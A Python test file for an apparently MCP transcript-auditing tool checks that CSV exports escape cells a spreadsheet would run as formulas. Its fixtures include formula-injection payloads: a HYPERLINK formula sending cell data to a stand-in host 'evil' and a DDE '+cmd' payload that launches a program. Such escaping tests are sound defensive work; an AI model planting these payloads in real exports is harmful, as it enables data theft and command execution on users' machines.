"""The exchange table: text cells that a spreadsheet would run as a formula are written quoted in CSV."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest
from cancelwire.run.pipeline import audit
from cancelwire.tables.exchanges import ExchangeWriter
from transcripts import Line, write_transcript

FORMULA = '=HYPERLINK("http://evil/?"&A1,"click")'


def test_csv_cells_that_would_start_a_formula_are_quoted(tmp_path: Path) -> None:
    init = {"protocolVersion": "2025-11-25"}
    lines: list[Line] = [
        (1.0, "c2s", {"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": init}),
        (1.1, "s2c", {"jsonrpc": "2.0", "id": 0, "result": init}),
        (2.0, "c2s", {"jsonrpc": "2.0", "id": -1, "method": "tools/call", "params": {"name": "+cmd|' /C calc'!A0"}}),
        (2.1, "s2c", {"jsonrpc": "2.0", "id": -1, "result": {}}),
        (3.0, "c2s", {"jsonrpc": "2.0", "id": "@SUM(1)", "method": FORMULA}),
        (3.5, "s2c", {"jsonrpc": "2.0", "id": "@SUM(1)", "result": {}}),
    ]
    transcript = write_transcript(tmp_path / "t.jsonl", lines)
    out = tmp_path / "x.csv"
    writer = ExchangeWriter(out)
    audit([str(transcript)], on_row=writer.add)
    writer.close()
    with out.open(newline="") as f:
        rows = list(csv.DictReader(f))
    assert [(r["request_id"], r["method"], r["tool"], r["request_ts"], r["duration"]) for r in rows] == [
        ("0", "initialize", "", "1.0", "0.10000000000000009"),
        ("'-1", "tools/call", "'+cmd|' /C calc'!A0", "2.0", "0.10000000000000009"),
        ("'@SUM(1)", "'" + FORMULA, "", "3.0", "0.5"),
    ]
    assert {r["first_evidence"][:1] for r in rows} == {"/"}  # a path that starts with "/" is not a formula
    assert {r["cancelled"] for r in rows} == {"False"}  # booleans and numbers are left alone


def test_parquet_keeps_the_recorded_values(tmp_path: Path) -> None:
    pytest.importorskip("pyarrow")
    lines: list[Line] = [(1.0, "c2s", {"jsonrpc": "2.0", "id": 1, "method": FORMULA})]
    transcript = write_transcript(tmp_path / "t.jsonl", lines)
    out = tmp_path / "x.parquet"
    writer = ExchangeWriter(out)
    audit([str(transcript)], on_row=writer.add)
    writer.close()
    assert list(pd.read_parquet(out)["method"]) == [FORMULA]
